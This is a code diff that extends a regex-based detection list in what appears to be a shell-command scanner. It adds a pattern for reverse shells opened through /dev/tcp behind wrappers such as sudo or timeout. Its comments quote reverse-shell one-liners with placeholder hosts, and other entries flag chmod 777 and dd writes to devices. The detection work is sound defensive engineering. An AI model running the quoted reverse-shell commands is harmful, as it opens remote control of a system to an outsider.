@@ -195,7 +195,12 @@ TEXT_PATTERNS: tuple[tuple[str, str, str, str], ...] = (
      r"|(?s)\bztcp\b.*?\beval\b[^;&|\n]*<&\s*\$"
      # (probe round 32, redteam32c) a shell whose input is a socket opened read-write
      # (bash -i <>/dev/tcp/h/p >&0 2>&1, sh 0<>/dev/tcp/h/p: <> the grammar cannot read)
-     r"|(?:^|[;&|\n({]|\bexec|\bdo|\bthen)\s*(?:\S*/)?(?:ba|z|da|k|a)?sh\b(?:[^|;&\n]|[<>]&)*?\d?<>?\s*/+dev/+(?:tcp|udp)/"),
+     r"|(?:^|[;&|\n({]|\bexec|\bdo|\bthen)\s*(?:\S*/)?(?:ba|z|da|k|a)?sh\b(?:[^|;&\n]|[<>]&)*?\d?<>?\s*/+dev/+(?:tcp|udp)/"
+    # ((probe round 45, pwsh45) a socket opened read-write so, behind a wrapper too: sudo bash -c 'exec
+    # 3<>/dev/tcp/h/p' was less strict than the line alone; timeout 1 bash -c '</dev/tcp/h/80', a port's
+    # check, stays asked: round 36's exfil36)
+    r"|(?:^|[;&|\n({]|\bexec|\bdo|\bthen)\s*(?:(?:sudo|env|nice|nohup|command)\s+(?:-\S+\s+)*|timeout\s+\S+\s+)"
+    r"(?:\S*/)?(?:ba|z|da|k|a)?sh\b(?:[^|;&\n]|[<>]&)*?\d?<>\s*/+dev/+(?:tcp|udp)/"),
     ("chmod_777", "world-writable permissions (chmod 777)", SHELL,
      rf"\bchmod{_SEP}(?:-\S+{_SEP})*(?:0?777|a\+rwx|ugo\+rwx)\b"),
     ("dd_device", "dd writing to a device", SHELL,
